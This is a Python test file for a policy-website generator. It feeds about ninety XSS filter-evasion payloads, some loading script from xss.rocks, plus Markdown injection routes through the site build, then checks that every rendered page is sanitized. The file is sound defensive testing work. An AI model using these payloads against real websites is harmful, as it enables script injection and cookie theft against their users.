"""Hostile input: raw HTML in policies is sanitized (nh3) on every page and in every variant.

The payloads follow the OWASP XSS Filter Evasion Cheat Sheet (script tags, event handlers,
javascript:/vbscript:/data: URLs in every disguise, styles, frames, forms, meta refresh,
malformed tags) plus Markdown-specific routes (links, images, attribute lists, our own
++key++ and {{no-convert}} syntax). Each goes into its own policy; the site is built once,
and every page of that policy is parsed back as a browser would (html5lib) and checked.
"""
from __future__ import annotations

import html
import re

import pytest

from conftest import Project, parse_html, text_of
from policysite.markup import render_markdown
from policysite.sanitize import ATTRIBUTES, TAGS

PAYLOADS = [
    # <script> in its disguises
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # javascript: URLs in img src
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    # event handlers
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<img src=\"x\" alt=\"&quot; onerror=&quot;alert(1)\">",
    # links
    "<a href=\"  javascript:alert('XSS')\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    # styles and things that load or restyle
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    # frames, objects, forms
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(2)\">x</button><input type=\"submit\"></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    # mutation XSS and breaking out of the page structure
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></article></main><script>alert(1)</script><main>",
    "<template><script>alert(1)</script></template>",
    # Markdown routes
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1) \"t\")",
    "![x](javascript:alert(1))",
    "[x][r]\n\n[r]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "段落\n{: onclick=\"alert(1)\" style=\"color:red\" }",
    "## 标题 {: onmouseover=\"alert(1)\" #main }",
    "++<img src=x onerror=alert(1)>++",
    "{{<script>alert(1)</script>}}",
    "[x](https://example.gov.cn/ \"t\\\" onclick=\\\"alert(1)\")",
]

URL_ATTRS = {"href", "src", "action", "formaction", "background", "poster", "data", "cite", "dynsrc",
             "lowsrc", "srcset", "xlink:href", "codebase", "longdesc", "ping"}
FORBIDDEN_IN_MAIN = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
                     "button", "textarea", "select", "style", "link", "meta", "base", "svg", "math",
                     "template", "noscript", "isindex", "bgsound", "video", "audio", "source"}


def dangerous_url(value: str) -> bool:
    """What a browser's URL parser sees (WHATWG URL): entities decoded (html5lib did that already;
    again for safety), leading and trailing C0 controls and spaces stripped, tab and newlines
    removed anywhere, scheme case-folded."""
    v = html.unescape(value).strip("".join(map(chr, range(0x21))))
    v = re.sub(r"[\t\n\r]", "", v).lower()
    return v.startswith(("javascript:", "vbscript:", "data:", "livescript:", "mocha:"))


def problems(doc, policy_page: bool = True) -> list[str]:
    """Everything unsafe on a parsed page."""
    found = []
    root = doc.getroot()
    main = root.find(".//main")
    if main is None:
        return ["no <main>: the page structure was broken"]
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        for name, value in el.attrib.items():
            lname = name.lower()
            if lname.startswith("on"):
                found.append(f"<{tag} {name}=…> event handler")
            if lname == "style":
                found.append(f"<{tag} style=…>")
            if lname in URL_ATTRS and dangerous_url(value):
                found.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and not ((el.get("src") or "").endswith("static/site.js") and not (el.text or "").strip()):
            found.append(f"script element {el.attrib} {el.text!r}")
        if tag == "meta" and el.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            found.append(f"meta http-equiv={el.get('http-equiv')}")
        if tag == "base":
            found.append("base element")
        if tag == "link" and (el.get("rel") or "") not in ("stylesheet", "icon", "canonical", "alternate"):
            found.append(f"link rel={el.get('rel')}")
        if tag == "link" and el.get("rel") in ("stylesheet", "icon") and "static/" not in el.get("href", ""):
            found.append(f"link to {el.get('href')}")
    for el in main.iter():
        if isinstance(el.tag, str) and el.tag.lower() in FORBIDDEN_IN_MAIN:
            found.append(f"<{el.tag}> inside main")
    body_div = main.find(".//div[@class='policy-body']")
    if policy_page and body_div is None:
        found.append("no policy body")
    footer = root.find(".//footer[@class='site-footer']")
    if footer is None or footer.getparent().tag != "body" or main.getparent().tag != "body":
        found.append("page structure broken (main/footer moved)")
    return found


def variant_urls(slug: str) -> list[str]:
    return [f"{slug}/", f"elder/{slug}/", f"zh-hant/{slug}/", f"zh-hant/elder/{slug}/",
            f"{slug}/1.0/", f"zh-hant/elder/{slug}/1.0/"]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    project = Project(tmp_path_factory.mktemp("hostile") / "site")
    for i, payload in enumerate(PAYLOADS):
        body = (f"## 一、总则\n\n前文开始。\n\n{payload}\n\n行内 {payload.splitlines()[0]} 文字\n\n"
                f"### （一）后文\n\n后文结束。\n")
        project.policy(f"x{i:03}.md", body)
    # a translation carries payloads too: the English pages must be as clean
    project.write("x000.en.md", "---\ntitle: Hostile\n---\n## One\n\n" + "\n\n".join(PAYLOADS[:20]) + "\n")
    project.build()
    return project


def test_payload_count():
    assert len(PAYLOADS) >= 30 and len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("index", range(len(PAYLOADS)), ids=[f"p{i:03}" for i in range(len(PAYLOADS))])
def test_payload_is_defused_in_every_variant(hostile_site, index):
    slug = f"x{index:03}"
    for url in variant_urls(slug):
        doc = hostile_site.page(url)
        assert problems(doc) == [], f"{url}: {PAYLOADS[index]!r}"
        body = text_of(doc.getroot().find(".//main"))
        assert "前文开始" in body or "前文開始" in body, url         # the text before it survives
        # (issue 18) and the text after it: an unclosed <script> once took the rest of the page
        assert "文字" in body and ("后文结束" in body or "後文結束" in body), (url, PAYLOADS[index])
        toc = text_of(doc.getroot().find(".//nav[@aria-labelledby='toc-heading']")) if "elder" not in url else ""
        heading = [h for h in doc.getroot().iter("h3") if "后文" in text_of(h) or "後文" in text_of(h)]
        assert heading, (url, "the heading after the payload is on the page")


def test_english_translation_with_payloads(hostile_site):
    for url in ("en/x000/", "en/elder/x000/1.0/"):
        assert problems(hostile_site.page(url)) == [], url


def test_home_and_404_clean(hostile_site):
    for url in ("index.html", "zh-hant/index.html", "404.html"):
        assert problems(hostile_site.page(url), policy_page=False) == [], url


def test_frontmatter_payloads_are_escaped(project):
    """Metadata goes through Jinja's autoescaping, never through the sanitizer: it stays text."""
    evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    project.policy("meta.md", title=f"'{evil}'", issuer=f"'{evil}'", summary=f"'{evil}'",
                   tags=f"['{evil}']", contact=f"\n  person: '{evil}'\n  address: '\" onclick=\"x'")
    project.build()
    for url in ("meta/", "zh-hant/elder/meta/", ""):
        doc = project.page(url)
        assert problems(doc, policy_page=bool(url)) == [], url
        assert "<script>alert(1)</script>" in text_of(doc.getroot().find(".//main"))  # shown as text


def test_sanitizer_keeps_what_policies_use():
    """The allow-list keeps footnotes, attribute lists, heading ids, key clauses, no-convert
    spans, tables with scope/colspan, definition lists and safe links."""
    md = ("## 一、总则 {#general .intro}\n\n"
          "正文[^1]，++重要条款++，{{于}}先生。[链接](https://example.gov.cn/a?b=1&c=2) "
          "[邮件](mailto:a@example.gov.cn) [电话](tel:+861234) [本页](#general) [相对](../x/)\n\n"
          "| 项目 | 说明 |\n|:--|--:|\n| 甲 | 乙 |\n\n"
          "<table><thead><tr><th scope=\"col\" colspan=\"2\">表头</th></tr></thead>"
          "<tbody><tr><td rowspan=\"2\">格</td><td>格</td></tr></tbody></table>\n\n"
          "术语\n:   定义\n\n"
          "<abbr title=\"个人信息\">PI</abbr> <dfn>定义</dfn> <ins>增</ins> <del>删</del> H<sub>2</sub>O x<sup>2</sup>\n\n"
          "<figure><img src=\"../static/a.png\" alt=\"图\" width=\"10\" height=\"10\"><figcaption>说明</figcaption></figure>\n\n"
          "[^1]: 脚注。\n")
    out = render_markdown(md).html
    for kept in ('<h2 class="intro" id="general">', 'id="fnref:1"', 'class="footnote-ref" href="#fn:1"',
                 'class="footnote-backref" href="#fnref:1"', '<li id="fn:1">', '<strong class="key-clause">重要条款</strong>',
                 '<span data-nc="">于</span>', 'href="https://example.gov.cn/a?b=1&amp;c=2"',
                 'href="mailto:a@example.gov.cn"', 'href="tel:+861234"', 'href="#general"', 'href="../x/"',
                 '<th align="left">', '<td align="right">', '<th scope="col" colspan="2">', '<td rowspan="2">',
                 "<dl>", "<dt>术语</dt>", '<abbr title="个人信息">', "<dfn>", "<ins>", "<del>", "<sub>", "<sup>2</sup>",
                 '<img src="../static/a.png" alt="图" width="10" height="10">', "<figcaption>"):
        assert kept in out, (kept, out)


@pytest.mark.parametrize("html_in,gone", [
    ("<p style=\"color:red\">x</p>", "style"),
    ("<img src=\"data:image/png;base64,AAAA\" alt=\"a\">", "data:"),
    ("<a href=\"javascript:alert(1)\">x</a>", "javascript"),
    ("<h1>标题</h1>", "<h1"),
    ("<div id=\"main\">x</div>", 'id="main"'),
    ("<span data-x=\"1\" aria-hidden=\"true\">x</span>", "data-x"),
    ("<p>a<!-- 注释 -->b</p>", "注释"),
    ("<iframe src=\"https://example.com/\">内容</iframe>", "内容"),
])
def test_sanitizer_removes(html_in, gone):
    assert gone not in render_markdown(html_in).html


def test_allow_list_documented_in_readme():
    """Every allowed tag and attribute appears in the README's Safety section."""
    from conftest import ROOT
    readme = (ROOT / "README.md").read_text("utf-8")
    safety = readme[readme.index("## Safety"):]
    safety = safety[: safety.index("\n## ", 4)]
    for tag in TAGS:
        assert f"`{tag}`" in safety, tag
    for attrs in ATTRIBUTES.values():
        for attr in attrs:
            assert f"`{attr}`" in safety, attr


def test_allow_tags_widens_knowingly(project):
    project.config("""
        [site]
        today = 2026-11-22
        [markdown]
        allow_tags = ["section", "iframe"]
        allow_attributes = { iframe = ["src", "title"], "*" = ["aria-label"] }
        """)
    project.policy("a.md", "<section aria-label=\"节\"><iframe src=\"../static/x.html\" title=\"地图\" "
                           "onload=\"alert(1)\"></iframe></section>\n\n<form><input></form>\n")
    result = project.build()
    html_text = (project.out / "a" / "index.html").read_text("utf-8")
    assert '<section aria-label="节"><iframe src="../static/x.html" title="地图"></iframe></section>' in html_text
    assert "onload" not in html_text and "<form" not in html_text
    warning = next(w for w in result.warnings if w.field == "markdown.allow_tags")
    assert "iframe" in warning.message and warning.line == 5


@pytest.mark.parametrize("line,expect", [
    ('allow_tags = ["script"]', "run code"),
    ('allow_tags = ["style"]', "run code"),
    ('allow_tags = "iframe"', "a list"),
    ('allow_tags = ["<b>"]', "tag names"),
    ('allow_attributes = { a = ["onclick"] }', "event handlers"),
    ('allow_attributes = { "*" = ["style"] }', "style"),
    ('allow_attributes = { a = "href" }', "list of attribute names"),
])
def test_allow_list_can_never_allow_scripts(project, line, expect):
    from test_validation import errors_of, find
    project.policy("a.md")
    project.config(f"[site]\ntoday = 2026-11-22\n[markdown]\n{line}\n")
    d = find(errors_of(project), "config.toml")
    assert d.line == 4 and expect in d.format(), d.format()
